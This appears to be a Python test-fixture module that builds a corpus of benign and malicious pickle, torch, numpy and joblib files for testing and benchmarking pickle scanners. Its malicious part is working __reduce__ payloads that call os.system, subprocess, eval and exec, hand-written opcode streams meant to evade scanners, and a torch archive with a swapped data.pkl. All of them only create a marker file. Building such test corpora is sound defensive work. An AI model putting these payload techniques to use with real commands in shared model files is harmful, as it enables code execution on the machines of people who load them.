"""A corpus of benign and malicious pickle-based files, made with the real libraries.

Benign: ``torch.save`` state dicts (zip and legacy formats), plain pickles of numpy arrays
and OrderedDicts in every protocol, ``.npy``/``.npz`` files, joblib dumps. Malicious:
``__reduce__`` payloads calling ``os.system``, ``subprocess.Popen``, ``builtins.eval``/``exec``,
``runpy``, ``webbrowser`` and more, in protocols 0-5, inside zip and legacy torch saves,
inside object ``.npy``/``.npz`` arrays and joblib dumps, plus hand-written opcode streams
(memoized ``STACK_GLOBAL``, ``INST``, ``getattr`` chains). Every payload would create a marker
file if it ever ran; building the corpus never loads anything.

Used by the tests and by ``benchmarks/pickle_scanners.py`` (scanner comparison). Needs numpy;
torch and joblib parts are made only when those are installed.
"""

from __future__ import annotations

import collections
import io
import pickle
import zipfile
from pathlib import Path
from typing import Any

import numpy as np

PROTOCOLS = range(0, 6)


class Payload:
    """Pickles as ``callable(*args)``; never instantiated by anything but the corpus builder."""

    def __init__(self, func: Any, args: tuple[Any, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


def payloads(marker: Path) -> dict[str, Payload]:
    """Named payloads; each would touch ``marker`` if executed."""
    import builtins
    import os
    import runpy
    import shutil
    import subprocess
    import webbrowser

    m = str(marker)
    code = f"open({m!r}, 'w').write('pwned')"
    return {
        "os.system": Payload(os.system, (f"touch {m}",)),
        "subprocess.Popen": Payload(subprocess.Popen, (["touch", m],)),
        "subprocess.check_output": Payload(subprocess.check_output, (["touch", m],)),
        "builtins.eval": Payload(builtins.eval, (code,)),
        "builtins.exec": Payload(builtins.exec, (code,)),
        "runpy._run_code": Payload(runpy._run_code, (code, {})),
        "webbrowser.open": Payload(webbrowser.open, (f"file://{m}",)),
        "shutil.copyfile": Payload(shutil.copyfile, ("/etc/hostname", m)),
        "builtins.open": Payload(builtins.open, (m, "w")),
        "builtins.__import__": Payload(builtins.__import__, ("antigravity",)),
    }


def _u(text: str) -> bytes:
    """SHORT_BINUNICODE of ``text``."""
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _handwritten(marker: Path) -> dict[str, bytes]:
    """Opcode streams the pickler never writes but the unpickler accepts."""
    cmd = f"touch {marker}".encode()
    return {
        # protocol 0 INST: instantiate os.system directly
        "inst_os_system.pkl": b"(S'" + cmd + b"'\nios\nsystem\n.",
        # protocol 4 STACK_GLOBAL with both strings from the memo
        "memo_stack_global.pkl": b"\x80\x04" + _u("os") + b"\x94" + _u("system") + b"\x94h\x00h\x01\x93" + _u(cmd.decode()) + b"\x85R.",
        # getattr(__import__('os'), 'system')(cmd) through builtins.getattr
        "getattr_chain.pkl": (
            b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'" + cmd + b"'\ntR."
        ),
        # a benign first pickle followed by a malicious second one (legacy torch reads several)
        "second_stream.pkl": pickle.dumps({"ok": 1}, protocol=2) + b"cos\nsystem\n(S'" + cmd + b"'\ntR.",
        # dotted name through protocol 4 attribute traversal
        "dotted_name.pkl": b"\x80\x04" + _u("collections") + _u("_sys.modules.os") + b"\x93.",
    }


def _save_torch(path: Path, obj: Any, legacy: bool) -> None:
    import torch

    torch.save(obj, path, _use_new_zipfile_serialization=not legacy)


def build(root: Path, marker: Path) -> dict[str, list[Path]]:
    """Write the corpus under ``root``; returns ``{"benign": [...], "malicious": [...]}``."""
    root.mkdir(parents=True, exist_ok=True)
    benign_dir, bad_dir = root / "benign", root / "malicious"
    benign_dir.mkdir(exist_ok=True)
    bad_dir.mkdir(exist_ok=True)
    rng = np.random.default_rng(0)
    arrays = {"w": rng.standard_normal((4, 3)).astype(np.float32), "b": np.zeros(3, np.float32)}
    benign: list[Path] = []
    malicious: list[Path] = []

    for proto in PROTOCOLS:
        path = benign_dir / f"numpy_dict_p{proto}.pkl"
        path.write_bytes(pickle.dumps(arrays, protocol=proto))
        benign.append(path)
        path = benign_dir / f"ordered_dict_p{proto}.pkl"
        path.write_bytes(pickle.dumps(collections.OrderedDict(a=[1, 2.5, "x"], b={1, 2}), protocol=proto))
        benign.append(path)
    np.save(benign_dir / "weights.npy", arrays["w"])
    np.savez(benign_dir / "weights.npz", **arrays)
    benign += [benign_dir / "weights.npy", benign_dir / "weights.npz"]

    for name, payload in payloads(marker).items():
        for proto in PROTOCOLS:
            path = bad_dir / f"{name}_p{proto}.pkl"
            path.write_bytes(pickle.dumps({"weight": arrays["w"], "x": payload}, protocol=proto))
            malicious.append(path)
        obj = np.empty(2, dtype=object)
        obj[0], obj[1] = "fine", payload
        np.save(bad_dir / f"{name}_object.npy", obj, allow_pickle=True)
        np.savez(bad_dir / f"{name}_object.npz", a=arrays["w"], o=obj)
        malicious += [bad_dir / f"{name}_object.npy", bad_dir / f"{name}_object.npz"]
    for name, data in _handwritten(marker).items():
        (bad_dir / name).write_bytes(data)
        malicious.append(bad_dir / name)

    try:
        import torch
    except ImportError:
        torch = None  # type: ignore[assignment]
    if torch is not None:
        layer = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 3))
        for legacy in (False, True):
            tag = "legacy" if legacy else "zip"
            for suffix in (".pt", ".bin", ".pth", ".ckpt"):
                path = benign_dir / f"state_dict_{tag}{suffix}"
                _save_torch(path, layer.state_dict(), legacy)
                benign.append(path)
            path = benign_dir / f"tensor_{tag}.pt"
            _save_torch(path, torch.arange(6.0).reshape(2, 3), legacy)
            benign.append(path)
            path = benign_dir / f"training_ckpt_{tag}.ckpt"
            _save_torch(path, {"epoch": 3, "model": layer.state_dict(), "lr": 1e-3}, legacy)
            benign.append(path)
            for name, payload in payloads(marker).items():
                path = bad_dir / f"torch_{tag}_{name}.pt"
                _save_torch(path, {"model": layer.state_dict(), "hook": payload}, legacy)
                malicious.append(path)
        # a zip torch save whose data.pkl was swapped for a hand-written one
        source = benign_dir / "state_dict_zip.pt"
        target = bad_dir / "torch_zip_swapped_data_pkl.bin"
        with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w") as zout:
            for info in zin.infolist():
                data = zin.read(info)
                if info.filename.endswith("data.pkl"):
                    data = _handwritten(marker)["memo_stack_global.pkl"]
                zout.writestr(info, data)
        malicious.append(target)

    try:
        import joblib
    except ImportError:
        joblib = None  # type: ignore[assignment]
    if joblib is not None:
        path = benign_dir / "arrays.joblib"
        joblib.dump(arrays, path)
        benign.append(path)
        for name in ("os.system", "builtins.eval"):
            path = bad_dir / f"joblib_{name}.joblib"
            joblib.dump({"w": arrays["w"], "x": payloads(marker)[name]}, path)
            malicious.append(path)
    return {"benign": benign, "malicious": malicious}


def to_bytes(obj: Any, protocol: int) -> bytes:
    buffer = io.BytesIO()
    pickle.dump(obj, buffer, protocol=protocol)
    return buffer.getvalue()
